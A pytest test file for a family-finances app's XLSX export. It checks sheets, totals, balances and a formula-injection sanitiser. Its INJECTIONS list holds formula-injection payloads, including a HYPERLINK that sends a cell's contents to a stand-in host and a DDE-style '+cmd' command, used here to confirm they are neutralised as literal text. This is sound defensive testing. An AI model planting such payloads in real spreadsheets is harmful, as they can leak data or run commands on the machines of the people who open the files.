"""The XLSX export read back with openpyxl: sheets, table, types, formats, totals, and formula-injection safety."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal as D
from pathlib import Path

import openpyxl
import pytest

import cli
from calculators.expenses import expense_summary
from casefile.finances import (
    Asset,
    AssetCategory,
    AssetsDebts,
    Budget,
    BudgetCategory,
    BudgetLine,
    Debt,
    Expense,
    ExpenseCategory,
    ExpenseLog,
    Owner,
    ReimbursementStatus,
)
from casefile.models import Case, Parent
from casefile.money import Frequency
from casefile.storage import save_case
from reports.sanitize import clean_text, markup_text, spreadsheet_text
from reports.xlsx import SHEET_ASSETS, SHEET_BUDGET, SHEET_EXPENSES, SHEET_SUMMARY, build_xlsx

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\x07=1+1",  # a control character hiding a formula
]


def expense(day: str, amount: str, paid_by: str = "parent_a", **kw: object) -> Expense:
    return Expense(date=dt.date.fromisoformat(day), amount=D(amount), paid_by=paid_by, **kw)


def load(case: Case) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(build_xlsx(case)))


@pytest.fixture
def case() -> Case:
    items = (
        expense("2026-03-01", "100.00", "parent_a", description="School shoes", category=ExpenseCategory.CLOTHING,
                children=("Maya", "Leo"), receipt_note="Card receipt"),  # B owes A 50.00
        expense("2026-03-15", "30.00", "parent_b", description="Dentist", category=ExpenseCategory.HEALTH),  # 15.00
        expense("2026-04-02", "60.00", "parent_a", share_a=D(40), category=ExpenseCategory.CHILD_CARE),  # 36.00
        expense("2026-04-10", "20.00", "parent_b", status=ReimbursementStatus.PAID),  # settled: 10.00
    )
    return Case(
        jurisdiction="GB", parent_a=Parent(display_name="Sam"), parent_b=Parent(display_name="Jordan"),
        expenses=ExpenseLog(items=items),
        budget=Budget(lines=(BudgetLine(category=BudgetCategory.GROCERIES, amount=D("100"),
                                        frequency=Frequency.WEEKLY),)),
        assets_debts=AssetsDebts(assets=(Asset(category=AssetCategory.CASH, owner=Owner.MINE, value=D("1000"),
                                               amount_owed=D("200")),),
                                 debts=(Debt(owner=Owner.JOINT, amount_owed=D("300")),)),
    )


def test_sheets_table_filters_frozen_header_widths(case: Case) -> None:
    wb = load(case)
    assert wb.sheetnames == [SHEET_EXPENSES, SHEET_SUMMARY, SHEET_BUDGET, SHEET_ASSETS]
    ws = wb[SHEET_EXPENSES]
    table = ws.tables["Expenses"]
    assert table.ref == "A1:L5"  # header + 4 expenses
    assert table.autoFilter is not None and table.autoFilter.ref == "A1:L5"
    header = [c.value for c in ws[1]]
    assert [col.name for col in table.tableColumns] == header  # Excel drops a table whose names differ
    assert header[:6] == ["Date", "Description", "Category", "Amount", "Paid by", "Children"]
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width >= 20 and ws.column_dimensions["C"].width == 30


def test_expense_rows_have_real_types_and_formats(case: Case) -> None:
    ws = load(case)[SHEET_EXPENSES]
    row = [c for c in ws[2]]
    assert row[0].is_date and row[0].value.date() == dt.date(2026, 3, 1) and row[0].number_format == "yyyy-mm-dd"
    assert row[1].value == "School shoes" and row[1].data_type == "s"
    assert row[2].value == "Clothing"
    assert row[3].value == 100 and row[3].data_type == "n" and "£" in row[3].number_format
    assert row[4].value == "Sam" and row[5].value == "Maya, Leo"
    assert (row[6].value, row[7].value) == (50, 50)  # shares in percent
    assert row[8].value == "Usual split"
    assert row[9].value == 50 and "£" in row[9].number_format  # owed to the payer: 100 x 50%
    assert row[10].value == "Not requested" and row[11].value == "Card receipt"
    third = [c.value for c in ws[4]]
    assert (third[6], third[7], third[9]) == (40, 60, 36)  # 60 x 60% = 36.00
    amounts = [ws.cell(row=r, column=4).value for r in range(2, 6)]
    assert sum(D(str(a)) for a in amounts) == D("210.00")  # 100 + 30 + 60 + 20


def test_summary_matches_the_hand_worked_balance(case: Case) -> None:
    ws = load(case)[SHEET_SUMMARY]
    rows = {r[0]: r[1:] for r in ws.iter_rows(values_only=True) if r[0] is not None}
    # owed to Sam: 50 + 36 = 86; owed to Jordan: 15 (the 10 paid back is left out); Jordan owes Sam 71
    assert rows["Owed to Sam (Jordan's shares of what Sam paid)"][0] == 86
    assert rows["Owed to Jordan (Sam's shares of what Jordan paid)"][0] == 15
    result = rows["Result after setting one against the other"]
    assert result[0] == 71 and result[1] == "Jordan owes Sam £71.00"
    assert rows["Already paid back (not in the balance)"][0] == 10
    assert rows["All expenses (4)"][0] == 210
    assert rows["Clothing"][0] == 100 and rows["Child care"][0] == 60
    months = [r for r in ws.iter_rows(values_only=True) if isinstance(r[0], dt.datetime)]
    # March: 100 + 30 = 130, Jordan owes 50 - 15 = 35; April: 60 + 20 = 80, Jordan owes 36
    assert [(m[0].date(), m[1], m[2], m[3], m[4]) for m in months] == [
        (dt.date(2026, 3, 1), 130, 50, 15, "Jordan owes Sam £35.00"),
        (dt.date(2026, 4, 1), 80, 36, 0, "Jordan owes Sam £36.00"),
    ]
    assert rows["Sam"][:2] == (160, 99)  # paid 100 + 60; bears 50 + 15 + 24 (40% of 60) + 10 = 99
    assert rows["Jordan"][:2] == (50, 111)  # paid 30 + 20; bears 50 + 15 + 36 + 10 = 111 (99 + 111 = 210)
    assert D(str(rows["Sam"][1])) == expense_summary(case).borne_by["parent_a"]


def test_budget_and_assets_sheets(case: Case) -> None:
    wb = load(case)
    budget = {r[0]: r for r in wb[SHEET_BUDGET].iter_rows(values_only=True) if r[0]}
    # 100 a week = 5,200 a year = 433.33 a month (rounded to the penny in the sheet)
    assert budget["Total monthly expenses"][4] == pytest.approx(433.33)
    lines = [r for r in wb[SHEET_BUDGET].iter_rows(values_only=True) if r[0] == "Groceries and household supplies"]
    assert lines[0][2:6] == (100, "a week", pytest.approx(433.33), "Estimated")  # the line as entered
    assert lines[1][4] == pytest.approx(433.33)  # the per-category total
    assets = {r[0]: r for r in wb[SHEET_ASSETS].iter_rows(values_only=True) if r[0]}
    assert assets["Mine"][3:7] == (1000, 200, 0, 800)
    assert assets["Joint"][3:7] == (0, 0, 300, -300)
    assert assets["Total"][6] == 500  # 800 - 300


def test_no_formulas_anywhere(case: Case) -> None:
    data = build_xlsx(case)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_strings_come_back_as_literal_text(text: str) -> None:
    item = expense("2026-01-01", "5", description=text, receipt_note=text, children=(text,))
    case = Case(parent_a=Parent(display_name=text), expenses=ExpenseLog(items=(item,)),
                budget=Budget(lines=(BudgetLine(amount=D(1), description=text),)),
                assets_debts=AssetsDebts(assets=(Asset(description=text, value=D(1)),)))
    safe = spreadsheet_text(item.description)  # as stored (the model strips surrounding whitespace)
    assert safe.startswith("'") and safe != item.description
    seen = 0
    for ws in load(case).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"  # openpyxl reads a formula cell as data_type "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    if cell.value == safe:
                        assert cell.data_type == "s"
                        seen += 1
    # description, children, receipt note, paid by (Expenses); the parent's name (Summary); budget; asset
    assert seen >= 7


def test_read_only_reader_sees_the_same_rows(case: Case) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(build_xlsx(case)), read_only=True)
    rows = list(wb[SHEET_EXPENSES].iter_rows(values_only=True))
    assert len(rows) == 5 and rows[1][1] == "School shoes"


def test_empty_case_exports() -> None:
    wb = load(Case())
    ws = wb[SHEET_EXPENSES]
    assert not ws.tables and ws.cell(row=2, column=1).value == "No expenses recorded yet."
    summary = {r[0]: r[1:] for r in wb[SHEET_SUMMARY].iter_rows(values_only=True) if r[0]}
    assert summary["Result after setting one against the other"][1] == "Nothing is owed either way"


def test_many_rows_round_trip() -> None:
    items = tuple(expense((dt.date(2025, 1, 1) + dt.timedelta(days=i % 400)).isoformat(), f"{i % 97 + 1}.{i % 100:02d}",
                          "parent_a" if i % 3 else "parent_b", description=f"Item {i}",
                          category=list(ExpenseCategory)[i % 8]) for i in range(3000))
    case = Case(expenses=ExpenseLog(items=items))
    wb = openpyxl.load_workbook(io.BytesIO(build_xlsx(case)), read_only=True)
    rows = list(wb[SHEET_EXPENSES].iter_rows(min_row=2, values_only=True))
    assert len(rows) == 3000
    assert sum(D(str(r[3])) for r in rows) == sum(e.amount for e in items)
    assert rows[2999][1] == "Item 2999"


def test_cli_export(tmp_path: Path, case: Case, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "case.case.json"
    save_case(case, path)
    out = tmp_path / "money.xlsx"
    assert cli.main(["export", str(path), "-o", str(out)]) == 0
    assert openpyxl.load_workbook(out).sheetnames[0] == SHEET_EXPENSES
    assert cli.main(["export", str(path), "-o", str(tmp_path / "money.csv")]) == 2
    assert cli.main(["export", str(tmp_path / "missing.json"), "-o", str(out)]) == 2
    assert "Traceback" not in capsys.readouterr().err


# --- the shared sanitiser ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),  # the tab becomes a space; the text is still quoted
        ("\r=1", "' =1"),
        ("\x07=1", "'=1"),  # a control character hiding the formula is removed, then caught
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("bell\x07 and null\x00", "bell and null"),
        ("line\nbreak", "line break"),
        ("", ""),
    ],
)
def test_spreadsheet_text(raw: str, safe: str) -> None:
    assert spreadsheet_text(raw) == safe
    assert spreadsheet_text(spreadsheet_text(raw)) == safe  # idempotent


def test_clean_and_markup_text() -> None:
    assert clean_text("a\x1bb\x7fc\x85d") == "abcd"
    assert clean_text("x\ud800y\uffffz") == "xyz"  # a lone surrogate or non-character would break the XML
    assert clean_text("one\r\ntwo", keep_newlines=True) == "one\ntwo"
    assert markup_text("<b>x</b> & y\nz") == "&lt;b&gt;x&lt;/b&gt; &amp; y<br/>z"
